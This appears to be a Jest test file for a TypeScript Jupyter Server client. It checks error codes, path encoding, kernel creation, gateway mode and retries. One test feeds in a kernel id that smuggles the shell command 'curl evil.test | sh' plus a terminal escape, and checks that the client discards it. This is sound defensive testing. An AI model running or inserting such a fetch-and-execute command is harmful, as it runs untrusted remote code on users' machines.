import { describe, expect, test } from '@jest/globals'
import { tokenCredentials } from '../../src/jupyter/credentials.ts'
import { JupyterServer } from '../../src/jupyter/server.ts'
import { FakeJupyter } from '../support/fake_jupyter.ts'
import { notebookOf, token } from '../support/fake_request.ts'
import { type RestAnswer, type Route, tokenPage } from '../support/fake_rest.ts'
import { neverAborts } from '../support/observe.ts'
import { serverOf } from '../support/open_channel.ts'
import { rejectionOf } from '../support/rejection.ts'

const id = '0b5a5f27-1111-4222-8333-944455556666'
const place = { id, name: 'python3', path: 'a/n.ipynb', gateway: null }

type Method = (server: JupyterServer) => Promise<unknown>

const methods = {
  probe: (server) => server.status.requireJupyter(neverAborts),
  kernelspecs: (server) => server.kernelspecs.list(neverAborts),
  notebook: (server) => server.contents.notebook('/a/n.ipynb', neverAborts),
  createKernel: (server) => server.kernels.start(place, neverAborts),
  kernelName: (server) => server.kernels.nameOf(id, neverAborts),
  interruptKernel: (server) => server.kernels.interrupt(id, neverAborts),
  deleteKernel: (server) => server.kernels.delete(id, neverAborts),
} as const satisfies Record<string, Method>

const json = (status: number, message: string): RestAnswer => ({ status, body: { message } })
const page = tokenPage(404, token)
const forbidden = json(403, 'Forbidden')

describe('JupyterServer', () => {
  test.each<[keyof typeof methods, Route, string, RestAnswer, string]>([
    ['probe', 'api', 'a page', tokenPage(200, token), 'SERVER_NOT_JUPYTER'],
    ['probe', 'api', 'other JSON', { body: { hello: 1 } }, 'SERVER_NOT_JUPYTER'],
    ['probe', 'api', 'a 404 page', page, 'SERVER_NOT_JUPYTER'],
    ['probe', 'api', 'a 403 page', tokenPage(403, token), 'SERVER_NOT_JUPYTER'],
    ['probe', 'api', '503', json(503, 'soon'), 'SERVER_UNREACHABLE'],
    ['kernelspecs', 'kernelspecs', 'a wrong token', forbidden, 'TOKEN_REFUSED'],
    ['kernelspecs', 'kernelspecs', 'nonsense', { body: [] }, 'SERVER_NOT_JUPYTER'],
    ['notebook', 'contents', 'a text 404', { status: 404, body: 'no' }, 'NOTEBOOK_NOT_FOUND'],
    ['notebook', 'contents', 'a JSON 404', json(404, 'no'), 'NOTEBOOK_NOT_FOUND'],
    ['notebook', 'contents', 'a 404 page', page, 'SERVER_NOT_JUPYTER'],
    ['notebook', 'contents', '400', json(400, 'Unreadable /home/x secret'), 'NOTEBOOK_INVALID'],
    ['notebook', 'contents', 'no JSON', { body: 'text' }, 'SERVER_NOT_JUPYTER'],
    ['notebook', 'contents', 'a folder', { body: { content: [] } }, 'NOTEBOOK_INVALID'],
    ['notebook', 'contents', 'a wrong token', forbidden, 'TOKEN_REFUSED'],
    ['createKernel', 'create', '500', json(500, 'Unhandled error'), 'KERNEL_START_FAILED'],
    ['createKernel', 'create', '501', json(501, 'no such kernel'), 'KERNEL_START_FAILED'],
    ['createKernel', 'create', '503', json(503, 'soon'), 'SERVER_UNREACHABLE'],
    ['createKernel', 'create', 'a wrong token', json(403, 'xsrf'), 'TOKEN_REFUSED'],
    ['createKernel', 'create', 'a cut', { silence: 'drop' }, 'SERVER_UNREACHABLE'],
    ['kernelName', 'look', 'a 404 page', page, 'SERVER_NOT_JUPYTER'],
    ['interruptKernel', 'interrupt', '500', json(500, 'no'), 'SERVER_UNREACHABLE'],
    ['deleteKernel', 'delete', 'a 404 page', page, 'SERVER_NOT_JUPYTER'],
    ['deleteKernel', 'delete', 'a wrong token', forbidden, 'TOKEN_REFUSED'],
  ])('%s() of %s with %s throws the right error and shows no page', async (...row) => {
    const [method, route, , answer, code] = row
    await using jupyter = await FakeJupyter.start()
    jupyter.script(route, answer, answer, answer)
    const error = await rejectionOf(methods[method](serverOf(jupyter)))
    expect(error).toMatchObject({ code })
    expect(error.message).toMatch(/^Cannot .*[^.]$/s)
    expect(error.message).not.toMatch(/secret/)
  })

  test.each([401, 403])(
    'requireJupyter() accepts a %d in JSON as a Jupyter Server that needs a token',
    async (status) => {
      await using jupyter = await FakeJupyter.start()
      jupyter.script('api', json(status, 'Forbidden'))
      await serverOf(jupyter).status.requireJupyter(neverAborts)
      expect(jupyter.countOf('api')).toBe(1)
    },
  )

  test.each([
    ['/my report.ipynb', '/my%20report.ipynb'],
    ['/a#b/c?d/50%.ipynb', '/a%23b/c%3Fd/50%25.ipynb'],
    ['/ünï/日本.ipynb', '/%C3%BCn%C3%AF/%E6%97%A5%E6%9C%AC.ipynb'],
  ])('notebook() requests "%s" with each path segment encoded', async (path, encoded) => {
    await using jupyter = await FakeJupyter.start(['1'])
    const { cells } = await serverOf(jupyter).contents.notebook(path, neverAborts)
    expect(cells).toHaveLength(1)
    expect(jupyter.requests[0]?.path).toBe(`/api/contents${encoded}?type=notebook&content=1`)
  })

  test('notebook() accepts a notebook that the server calls invalid', async () => {
    await using jupyter = await FakeJupyter.start()
    const message = 'Notebook validation failed'
    jupyter.script('contents', { body: { message, content: notebookOf(['1']) } })
    expect((await serverOf(jupyter).contents.notebook('/n.ipynb', neverAborts)).cells).toHaveLength(
      1,
    )
  })

  test.each([
    {
      name: 'the body',
      answer: { body: { id: 'from-body' }, headers: { Location: '/k/from-head' } },
      expected: 'from-body',
    },
    {
      name: 'the Location',
      answer: { body: 'cut', headers: { Location: '/api/kernels/from-head' } },
      expected: 'from-head',
    },
    { name: 'the request', answer: { body: 'cut' }, expected: id },
    {
      name: 'the request when the body has none that could be pasted into a command',
      answer: { body: { id: 'x; curl evil.test | sh #\u001b[2J' } },
      expected: id,
    },
  ])('createKernel() takes the id from $name', async ({ answer, expected }) => {
    await using jupyter = await FakeJupyter.start()
    jupyter.script('create', { status: 201, ...answer })
    expect(await serverOf(jupyter).kernels.start(place, neverAborts)).toBe(expected)
    expect(JSON.parse(jupyter.requests[0]?.body ?? '')).toEqual({
      name: 'python3',
      path: 'a/n.ipynb',
      kernel_id: id,
    })
  })

  test('createKernel() asks again without an id when a server in gateway mode answers null', async () => {
    await using jupyter = await FakeJupyter.start()
    jupyter.script('create', { status: 201, body: 'null' }, { status: 201, body: { id: 'a-b' } })
    const { kernels } = serverOf(jupyter)
    expect(await kernels.start(place, neverAborts)).toBe('a-b')
    const bodies = jupyter.requests.map(({ body }): unknown => JSON.parse(body))
    expect(bodies).toEqual([
      { name: 'python3', path: 'a/n.ipynb', kernel_id: id },
      { name: 'python3', path: 'a/n.ipynb' },
    ])
    expect(kernels.isGatewayMode).toBe(true)
  })

  test('createKernel() sends one request, whatever the answer', async () => {
    await using jupyter = await FakeJupyter.start()
    jupyter.always('create', json(503, 'soon'))
    await expect(methods.createKernel(serverOf(jupyter))).rejects.toThrow('503: soon')
    expect(jupyter.requests).toHaveLength(1)
  })

  test('kernelName() returns null when the server has no such kernel', async () => {
    await using jupyter = await FakeJupyter.start()
    expect(await serverOf(jupyter).kernels.nameOf(id, neverAborts)).toBeNull()
    jupyter.addKernel(id, 'ir')
    expect(await serverOf(jupyter).kernels.nameOf(id, neverAborts)).toBe('ir')
  })

  test.each(['kernelspecs', 'contents'] as const)(
    'kernelspecs() and notebook() try again when %s fails in passing',
    async (route) => {
      await using jupyter = await FakeJupyter.start(['1'])
      jupyter.script(route, { silence: 'drop' }, json(503, 'soon'))
      const method = route === 'contents' ? methods.notebook : methods.kernelspecs
      await expect(method(serverOf(jupyter))).resolves.toBeDefined()
      expect(jupyter.countOf(route)).toBe(3)
    },
  )

  test('deleteKernel() succeeds when the kernel does not exist', async () => {
    await using jupyter = await FakeJupyter.start()
    await expect(methods.deleteKernel(serverOf(jupyter))).resolves.toBe(false)
    expect(jupyter.calls).toEqual(['delete'])
  })

  test.each([
    ['http://h.test/', 'ws://h.test/api/kernels/k/channels?session_id=s'],
    ['https://h.test:8/user/ann/', 'wss://h.test:8/user/ann/api/kernels/k/channels?session_id=s'],
  ])('channelUrl() of %s keeps its base URL', (base, expected) => {
    const server = new JupyterServer(new URL(base), tokenCredentials(token))
    expect(server.kernels.channel('k', 's').url.href).toBe(expected)
  })
})
